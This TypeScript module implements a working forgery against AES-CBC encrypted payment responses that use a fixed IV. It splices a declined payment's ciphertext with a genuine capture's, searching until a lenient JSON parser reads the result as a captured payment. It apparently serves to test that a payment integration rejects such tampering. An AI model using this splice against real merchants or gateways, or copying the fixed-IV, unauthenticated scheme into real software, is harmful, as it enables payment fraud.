import { createCipheriv } from 'node:crypto';

const BLOCK = 16;
const IV = Buffer.from('PGKEYENCDECIVSPC');

function encrypt(text: string, key: string): Buffer {
  const cipher = createCipheriv('aes-256-cbc', Buffer.from(key), IV);
  return Buffer.concat([cipher.update(text), cipher.final()]);
}

/** Any plain text as `trandata`, for texts that no serialisation gives. */
export const sealPlainText = (text: string, key: string): string => encrypt(text, key).toString('hex');

type Outcome = Record<string, string>;

/**
 * Splices two ciphertexts as an attacker could: the first blocks of a declined payment's, then the last blocks of a
 * genuine capture's. The block at the splice decrypts to garbage. Returns one whose garbage is still valid inside a
 * JSON text, so that a tolerant parser reads the declined payment as captured. `capture` creates another genuine
 * capture each time.
 */
export function spliceTrandata(key: string, declined: Outcome, capture: (count: number) => Outcome): string {
  const head = JSON.stringify([declined]);
  const headBytes = encrypt(head, key);
  for (let count = 0; count < 5_000_000; count++) {
    const tail = JSON.stringify([capture(count)]);
    const tailBytes = encrypt(tail, key);
    for (const { headEnd, tailStart } of listSeams(head, tail, declined)) {
      const garbage = Buffer.alloc(BLOCK);
      for (let index = 0; index < BLOCK; index++) {
        const plain = tail.charCodeAt(tailStart + index);
        garbage[index] =
          plain ^ (tailBytes[tailStart - BLOCK + index] ?? 0) ^ (headBytes[headEnd - BLOCK + index] ?? 0);
      }
      if (!readsAsText(garbage)) continue;
      return Buffer.concat([headBytes.subarray(0, headEnd), tailBytes.subarray(tailStart)]).toString('hex');
    }
  }
  throw new Error('no splice was found');
}

let seams: { of: string; list: { headEnd: number; tailStart: number }[] } | undefined;

/**
 * Positions at which the garbage falls into a value, so that the rest reads as the declined payment with the capture's
 * result.
 */
function listSeams(head: string, tail: string, declined: Outcome) {
  if (seams?.of === head) return seams.list;
  const list = [];
  for (let headEnd = BLOCK; headEnd < head.length; headEnd += BLOCK) {
    for (let tailStart = BLOCK; tailStart < tail.length - BLOCK; tailStart += BLOCK) {
      const text = `${head.slice(0, headEnd)}${'A'.repeat(BLOCK)}${tail.slice(tailStart + BLOCK)}`;
      const { paymentId, trackId, udf3, amt } = declined;
      const [read] = parse(text);
      const isForged = read?.result === 'CAPTURED' && read.authRespCode === '00';
      if (
        isForged &&
        read.paymentId === paymentId &&
        read.trackId === trackId &&
        read.udf3 === udf3 &&
        read.amt === amt
      )
        list.push({ headEnd, tailStart });
    }
  }
  seams = { of: head, list };
  return list;
}

function parse(text: string): Outcome[] {
  try {
    return JSON.parse(text);
  } catch {
    return [];
  }
}

function readsAsText(bytes: Buffer): boolean {
  if (bytes.some((byte) => byte < 0x20 || byte === 0x22 || byte === 0x5c)) return false;
  const text = bytes.toString('utf8');
  return !text.includes('\ufffd');
}
